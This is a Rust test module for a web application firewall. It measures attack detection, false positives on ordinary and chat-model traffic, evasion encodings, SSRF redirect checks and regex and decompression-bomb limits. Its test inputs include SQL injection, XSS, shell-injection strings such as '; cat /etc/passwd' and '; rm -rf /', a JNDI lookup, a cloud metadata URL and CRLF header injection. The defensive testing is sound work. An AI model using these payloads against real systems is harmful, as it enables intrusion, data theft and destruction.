//! The corpora of `tests/data/firewall`: how many attacks are found, how many prompts are refused.
//! The tuning halves are what rules were written against; the checking halves only measure.

use std::net::SocketAddr;

use super::engine::{CustomRule, Engine};
use super::inspect::{self, BodyProfile};
use super::scan::Scan;
use crate::exchange::{Peer, Request};
use crate::http::head::{self, HeadLimits, RequestHead};
use crate::http::target::{self, Target};
use crate::sys::clock::thread_cpu_us;
use std::fmt::Write as _;
use std::io::Write as _;
use std::sync::Arc;

pub(super) const BLOCK: u32 = 5;

/// A request of these first lines and this body; `None` where the parser refuses it.
pub(super) fn parsed(head_text: &str, body: &[u8]) -> Option<Request> {
    let raw = format!("{head_text}\r\nHost: a\r\nContent-Length: {}\r\n\r\n", body.len());
    let (mut parsed, mut target) = (RequestHead::new(), Target::new());
    head::parse_request(raw.as_bytes(), &HeadLimits::default(), &mut parsed).ok()?;
    target::resolve(&parsed, raw.as_bytes(), &mut target).ok()?;
    let mut request = Request::default();
    let peer = Peer::Tcp(SocketAddr::from(([127, 0, 0, 1], 1)));
    request.fill(raw.as_bytes(), &mut parsed, &mut target, peer, 1);
    request.body_mut().extend_from_slice(body);
    Some(request)
}

fn request(head_text: &str, body: &[u8]) -> Request {
    parsed(head_text, body).unwrap()
}

pub(super) struct Bench {
    engine: Engine,
    pub(super) scan: Scan,
}

impl Bench {
    pub(super) fn new() -> Bench {
        let none: Arc<[CustomRule]> = Arc::from([]);
        Bench { engine: Engine::new(none, Arc::from([])).unwrap(), scan: Scan::default() }
    }

    pub(super) fn score(&mut self, request: &Request, profile: BodyProfile) -> u32 {
        self.scan.begin(&self.engine);
        inspect::head(&self.engine, &mut self.scan, request);
        inspect::body(&self.engine, &mut self.scan, request, profile);
        self.scan.score()
    }
}

fn percent_encoded(text: &[u8]) -> String {
    let mut out = String::new();
    for &byte in text {
        match byte {
            byte if byte.is_ascii_alphanumeric() => out.push(byte.into()),
            byte => write!(out, "%{byte:02X}").unwrap(),
        }
    }
    out
}

fn percent_decoded(text: &str) -> Vec<u8> {
    let mut out = Vec::new();
    target::query_value(format!("q={}", text.replace('+', "%2B")).as_bytes(), b"q", &mut out);
    out
}

/// The rate of one corpus of attacks over query, JSON field, form and header.
fn detection(bench: &mut Bench, corpus: &str) -> f64 {
    let (mut found, mut all) = ([0; 4], 0);
    for line in corpus.lines().filter(|line| !line.starts_with('#') && !line.is_empty()) {
        let (_, payload) = line.split_once('\t').unwrap();
        let (encoded, plain) = match payload.strip_prefix("enc:") {
            Some(encoded) => (encoded.to_owned(), percent_decoded(encoded)),
            None => (percent_encoded(payload.as_bytes()), payload.as_bytes().to_vec()),
        };
        let header = payload.strip_prefix("enc:").unwrap_or(payload);
        let json = serde_json::json!({ "q": String::from_utf8_lossy(&plain) }).to_string();
        let form = "POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded";
        all += 1;
        for (place, request) in [
            request(&format!("GET /search?q={encoded} HTTP/1.1"), b""),
            request("POST /x HTTP/1.1\r\nContent-Type: application/json", json.as_bytes()),
            request(form, format!("q={encoded}").as_bytes()),
            request(&format!("GET /x HTTP/1.1\r\nX-Data: {header}"), b""),
        ]
        .iter()
        .enumerate()
        {
            if bench.score(request, BodyProfile::Plain) >= BLOCK {
                found[place] += 1;
            } else {
                println!("missed in place {place}: {line}");
            }
        }
    }
    println!(
        "found of {all}: query {}, json {}, form {}, header {}",
        found[0], found[1], found[2], found[3]
    );
    found.iter().sum::<u32>() as f64 / f64::from(4 * all)
}

/// The rates of prompts refused: in chat bodies, and in a plain JSON field.
fn refused(bench: &mut Bench, corpus: &str) -> (f64, f64) {
    let (mut chat, mut plain, mut all) = (0, 0, 0);
    let json = "POST /x HTTP/1.1\r\nContent-Type: application/json";
    for line in corpus.lines().filter(|line| !line.starts_with('#') && !line.is_empty()) {
        all += 1;
        let body = serde_json::json!({
            "model": "gpt-4o",
            "messages": [
                { "role": "system", "content": "You are helpful." },
                { "role": "user", "content": line },
                { "role": "assistant", "content": [{ "type": "text", "text": line }] },
                { "role": "tool", "tool_call_id": "call_1", "content": line },
            ],
            "tools": [{ "type": "function", "function": {
                "name": "run", "description": line, "parameters": { "type": "object" } } }],
        });
        let score = bench.score(&request(json, body.to_string().as_bytes()), BodyProfile::Model);
        chat += i32::from(score >= BLOCK - 1);
        let body = serde_json::json!({ "q": line }).to_string();
        if bench.score(&request(json, body.as_bytes()), BodyProfile::Plain) >= BLOCK - 1 {
            plain += 1;
            println!("refused in a plain field: {line}");
        }
    }
    println!("refused of {all}: chat {chat}, plain {plain}");
    (f64::from(chat) / f64::from(all), f64::from(plain) / f64::from(all))
}

#[test]
fn attacks_are_found_and_prompts_pass() {
    let mut bench = Bench::new();
    for (name, attacks, benign) in [
        (
            "tuning",
            include_str!("../../tests/data/firewall/attacks-tuning.tsv"),
            include_str!("../../tests/data/firewall/benign-tuning.txt"),
        ),
        (
            "checking",
            include_str!("../../tests/data/firewall/attacks-checking.tsv"),
            include_str!("../../tests/data/firewall/benign-checking.txt"),
        ),
        (
            "held back",
            include_str!("../../tests/data/firewall/attacks-held-back.tsv"),
            include_str!("../../tests/data/firewall/benign-held-back.txt"),
        ),
        (
            "later",
            include_str!("../../tests/data/firewall/attacks-later.tsv"),
            include_str!("../../tests/data/firewall/benign-later.txt"),
        ),
    ] {
        let detected = detection(&mut bench, attacks);
        let (chat, plain) = refused(&mut bench, benign);
        // Past the harness, which shows nothing of a test that passes.
        let _ = writeln!(
            std::io::stderr(),
            "firewall, {name}: found {:.1} %, refused in chat {:.1} %, in a plain field {:.1} %",
            detected * 100.0,
            chat * 100.0,
            plain * 100.0
        );
        assert!(detected >= 0.92, "{name}: {detected}");
        assert!(chat == 0.0 && plain <= 0.15, "{name}: {chat} {plain}");
    }
}

/// Wrong: a browser, a shop or a webhook that is refused for what it sends every day.
#[test]
fn ordinary_traffic_passes() {
    let tuned_on = include_str!("../../tests/data/firewall/traffic.tsv");
    assert_eq!(refused_traffic("ordinary traffic", tuned_on), 0.0);
    // Code, queries and formulas in fields of their own are among it.
    let later = include_str!("../../tests/data/firewall/traffic-later.tsv");
    assert!(refused_traffic("later traffic", later) <= 0.05);
}

fn refused_traffic(name: &str, corpus: &str) -> f64 {
    let mut bench = Bench::new();
    let (mut all, mut refused) = (0, Vec::new());
    for line in corpus.lines().filter(|line| !line.starts_with('#') && !line.is_empty()) {
        let (place, value) = line.split_once('\t').unwrap();
        let form = "POST /x HTTP/1.1\r\nContent-Type: application/x-www-form-urlencoded";
        let json = "POST /x HTTP/1.1\r\nContent-Type: application/json";
        let request = match place {
            "target" => request(&format!("GET {value} HTTP/1.1"), b""),
            "header" => request(&format!("GET / HTTP/1.1\r\n{value}"), b""),
            "form" => request(form, value.as_bytes()),
            "json" => request(json, value.as_bytes()),
            _ => panic!("{line}"),
        };
        all += 1;
        let score = bench.score(&request, BodyProfile::Plain);
        if score >= BLOCK - 1 {
            refused.push(format!("{score} {:?}: {line}", bench.scan.findings()));
        }
    }
    println!("{}", refused.join("\n"));
    // Past the harness, as above.
    let _ = writeln!(std::io::stderr(), "firewall, {name}: refused {} of {all}", refused.len());
    refused.len() as f64 / f64::from(all)
}

/// What is structure in a request to a model is read strictly.
#[test]
fn structure_of_a_model_request_is_strict() {
    let mut bench = Bench::new();
    let head = "POST /v1/chat/completions HTTP/1.1\r\nContent-Type: application/json";
    for (body, is_attack) in [
        (r#"{"model":"' or 1=1 --","messages":[]}"#, true),
        (r#"{"model":"m","user":"<script>alert(1)</script>","messages":[]}"#, true),
        (
            r#"{"model":"m","messages":[{"role":"user","name":"; cat /etc/passwd","content":"x"}]}"#,
            true,
        ),
        (
            r#"{"model":"m","messages":[{"role":"user","content":[{"type":"image_url","image_url":{"url":"http://169.254.169.254/"}}]}]}"#,
            true,
        ),
        (r#"{"model":"m","$where":"1","messages":[]}"#, true),
        (r#"{"model":"m","messages":[{"role":"user","content":"' or 1=1 --"}]}"#, false),
        (r#"{"model":"m","input":["<script>alert(1)</script>"]}"#, false),
        (
            r#"{"model":"m","system":"; cat /etc/passwd","messages":[{"role":"assistant","content":[{"type":"tool_use","id":"t","name":"sh","input":{"command":"; rm -rf /","x":{"y":"' or 1=1"}}}]}]}"#,
            false,
        ),
    ] {
        let score = bench.score(&request(head, body.as_bytes()), BodyProfile::Model);
        assert_eq!(score >= BLOCK, is_attack, "{body}: {score}");
    }
}

/// Wrong: a way to write an attack that a parser behind us understands and we pass over.
#[test]
fn odd_spellings_are_read() {
    let mut bench = Bench::new();
    let multipart = |head: &str, part: &str| {
        let head = format!("POST /x HTTP/1.1\r\nContent-Type: multipart/form-data; {head}");
        request(&head, format!("--b\r\n{part}\r\n--b--\r\n").as_bytes())
    };
    let typed = |kind: &str, body: &str| {
        request(&format!("POST /x HTTP/1.1\r\nContent-Type: {kind}"), body.as_bytes())
    };
    let get = |target: &str| request(&format!("GET {target} HTTP/1.1"), b"");
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    gzip.write_all(br#"{"q":"<script>alert(1)</script>"}"#).unwrap();
    let coded = "POST /x HTTP/1.1\r\nContent-Type: application/json\r\nContent-Encoding: gzip";
    let many = format!("{}&z=%27+or+1%3D1+--", vec!["a=1"; 5_000].join("&"));
    let sql = "' union select password from users--";
    let disposition = "Content-Disposition: form-data";
    for (name, request) in [
        (
            "a name without a blank",
            multipart(
                "boundary=b",
                &format!("{disposition};name=\"<script>alert(1)</script>\"\r\n\r\nx"),
            ),
        ),
        (
            "a file without a name",
            multipart(
                "boundary=b",
                &format!("{disposition}; name=\"q\"; filename=\"\"\r\n\r\n{sql}"),
            ),
        ),
        (
            "lines without CR",
            multipart("boundary=b", &format!("{disposition}; name=\"q\"\n\n{sql}")),
        ),
        (
            "a field of a part",
            multipart(
                "boundary=b",
                &format!(
                    "{disposition}; name=\"q\"\r\nContent-Type: ${{jndi:ldap://x/a}}\r\n\r\nx"
                ),
            ),
        ),
        (
            "two boundaries",
            multipart("boundary=a; boundary=b", &format!("{disposition}; name=\"q\"\r\n\r\n{sql}")),
        ),
        (
            "another boundary",
            multipart("boundary=c", &format!("{disposition}; name=\"q\"\r\n\r\n{sql}")),
        ),
        ("a type nobody knows", typed("x/y", "q=%3Cscript%3Ealert(1)%3C/script%3E")),
        (
            "UTF-16",
            typed(
                "application/json; charset=utf-16",
                "{\0\"\0q\0\"\0:\0\"\0'\0 \0o\0r\0 \0\x31\0=\0\x31\0 \0-\0-\0\"\0}\0",
            ),
        ),
        ("more fields than are read one by one", typed("application/x-www-form-urlencoded", &many)),
        ("a coded body", request(coded, &gzip.finish().unwrap())),
        ("pieces in fields of one name", get("/x?id=1+union/*&id=*/select+1,2/*&id=*/from+users")),
        ("a comment in a word", get("/x?id=1+un/**/ion+se/**/lect+1,2+from+users")),
        ("Base64 without an end", get("/x?d=PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg")),
        (
            "Base64 in Base64",
            get(
                "/x?d=SlNCdmNpQXhQVEVnTFMwZ2VIaDRQSE5qY21sd2RENWhiR1Z5ZENneEtUd3ZjMk55YVhCMFBnPT0=",
            ),
        ),
        ("Base64 in a cookie", request("GET / HTTP/1.1\r\nCookie: d=JyBvciAxPTEgLS0geHh4", b"")),
        (
            "a name in Basic",
            request("GET / HTTP/1.1\r\nAuthorization: Basic JyBvciAxPTEgLS06eA==", b""),
        ),
        (
            "a coded line break in JSON",
            typed("application/json", r#"{"to":"x%0d%0aSet-Cookie: a=b"}"#),
        ),
    ] {
        let score = bench.score(&request, BodyProfile::Plain);
        assert!(score >= BLOCK, "{name}: {score} {:?}", bench.scan.findings());
    }
}

/// Wrong: an operator's rule that is held for one of ours, of which single words of prose are spared.
#[test]
fn a_rule_of_ones_own_may_be_about_words() {
    let rule = |literal: &str, pattern: &str| CustomRule {
        id: "own.word".into(),
        score: 5,
        places: super::place::ALL,
        is_dry: false,
        literals: vec![literal.into()],
        pattern: pattern.into(),
    };
    for (literal, pattern) in [("foo ", "foo bar"), ("fo", "foo b"), ("foo", ""), ("oo bar", "")] {
        let engine = Engine::new(Arc::from([rule(literal, pattern)]), Arc::from([])).unwrap();
        let mut bench = Bench { engine, scan: Scan::default() };
        let found = bench.score(&request("GET /x?q=a+foo+bar HTTP/1.1", b""), BodyProfile::Plain);
        assert_eq!(found, 5, "{literal} {pattern}");
    }
    let many: Vec<_> = (0..20_000).map(|_| rule("foo", "")).collect();
    assert!(Engine::new(many.into(), Arc::from([])).is_err());
}

/// Wrong: an address of this machine that counts as a page to be sent back to.
#[test]
fn only_a_program_on_the_users_machine_is_sent_back_there() {
    let mut bench = Bench::new();
    for (target, is_attack) in [
        ("/authorize?redirect_uri=http%3A%2F%2Flocalhost%3A8080%2Fcallback", false),
        ("/authorize?redirect_uri=http://127.0.0.1:41234", false),
        ("/authorize?redirect_uri=http://[::1]/cb", false),
        ("/authorize?redirect_uri=http://169.254.169.254/latest", true),
        ("/authorize?redirect_uri=http://localhost:80@10.0.0.1/", true),
        ("/authorize?redirect_uri=http://localhost.evil.example@127.0.0.1/", true),
        ("/authorize?url=http://localhost:8080/callback", true),
    ] {
        let request = request(&format!("GET {target} HTTP/1.1"), b"");
        let score = bench.score(&request, BodyProfile::Plain);
        assert_eq!(score >= BLOCK, is_attack, "{target}: {score}");
    }
}

/// Bytes of the shorter input; the longer one has so many times as many.
const SHORT_BYTES: usize = 8 << 10;
const TIMES: usize = 8;

/// Wrong: an input on which the work grows faster than its length.
#[test]
fn no_input_takes_longer_than_its_length() {
    // Rules that only tell: so none of them ends the search.
    let mut families: Vec<String> = super::rules::all()
        .map(|spec| spec.id.split('.').next().unwrap_or_default().to_owned())
        .collect();
    families.dedup();
    let engine = Engine::with_dry(Arc::from([]), Arc::from([]), families.into()).unwrap();
    let mut bench = Bench { engine, scan: Scan::default() };
    let literals: Vec<String> =
        super::rules::all().flat_map(|spec| super::rules::literals(&spec)).collect();
    let mut state = 0x2545_f491_4f6c_dd1d_u64;
    let mut below = |bound: usize| {
        state ^= state << 13;
        state ^= state >> 7;
        state ^= state << 17;
        (state >> 11) as usize % bound
    };
    let mut units: Vec<String> = [
        "' or ",
        "or ",
        "and 1",
        "((",
        "/*",
        "*/",
        "/**/",
        "un/**/",
        "--",
        "{{",
        "${",
        "${${",
        "<",
        "<a ",
        "&#",
        "&lt",
        "%25",
        "%2525",
        "%u00",
        "\\x5c",
        "\\",
        "../",
        "//",
        "http://1",
        "http:////",
        ":",
        ";",
        ";q=",
        "| a",
        "`",
        "$(",
        "'\"",
        "a'a",
        "union select",
        "0x",
        "::text",
        "=1&a",
        "a=1&",
        "\n",
        "\r\nset-cookie",
        "QUJD",
        "\0",
        "\u{ff1c}",
        "\u{200b}",
        "x=\"",
        "case when ",
        "concat(",
        "__",
        "{$",
        "<!entity ",
        "<a b=c>",
        "<!--",
        "<![cdata[",
        "<?x ",
        "='",
        ")(",
        "jndi:",
    ]
    .map(str::to_owned)
    .to_vec();
    for _ in 0..16 {
        let pieces = (0..24).map(|_| literals[below(literals.len())].as_str());
        units.push(pieces.collect::<Vec<_>>().join(["", " ", "'", "\n"][below(4)]));
    }
    let mut cpu_us = |make: &dyn Fn(&str) -> Request, unit: &str, bytes: usize| {
        let request = make(&unit.repeat(bytes / unit.len() + 1));
        bench.score(&request, BodyProfile::Plain);
        let began_us = thread_cpu_us();
        bench.score(&request, BodyProfile::Plain);
        thread_cpu_us() - began_us
    };
    let typed = |kind: &str, body: &str| {
        request(&format!("POST /x HTTP/1.1\r\nContent-Type: {kind}"), body.as_bytes())
    };
    let field = |text: &str| {
        typed("application/x-www-form-urlencoded", &format!("q={}", text.replace('&', "%26")))
    };
    let form = |text: &str| typed("application/x-www-form-urlencoded", text);
    let json = |text: &str| typed("application/json", &format!("{{\"q\":[\"{text}"));
    let names = |text: &str| {
        let part = "Content-Disposition: form-data; name=";
        typed("multipart/form-data; boundary=b", &format!("--b\r\n{part}{text}\r\n\r\n{text}"))
    };
    let xml = |text: &str| typed("text/xml", &format!("<a b='{text}'><c>{text}</c><d {text}"));
    let makers: [&dyn Fn(&str) -> Request; 5] = [&field, &form, &json, &names, &xml];
    for (at, unit) in units.iter().enumerate() {
        // Each unit in two ways, all ways over all units.
        for make in [makers[0], makers[1 + at % 4]] {
            let short_us = cpu_us(make, unit, SHORT_BYTES);
            let long_us = cpu_us(make, unit, SHORT_BYTES * TIMES);
            let most_us = 3 * TIMES as u64 * short_us + 20_000;
            assert!(long_us <= most_us, "{unit:?}: {short_us} us, then {long_us} us");
        }
    }
}

/// Wrong: a small body that costs what a large one does.
#[test]
fn of_a_coded_body_only_so_much_is_read() {
    let mut gzip = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    for _ in 0..64 {
        gzip.write_all(&[b'a'; 1 << 20]).unwrap();
    }
    let bomb = gzip.finish().unwrap();
    let mut out = Vec::new();
    assert!(inspect::decode(b"gzip", &bomb, &mut out));
    assert!(out.len() <= 1 << 20, "{}", out.len());
    assert!(inspect::decode(b"gzip", &bomb[..600], &mut out));
    assert!(out.len() <= 64 << 10, "{}", out.len());
    assert!(!inspect::decode(b"br", &bomb, &mut out) && !inspect::decode(b"gzip", b"no", &mut out));
}
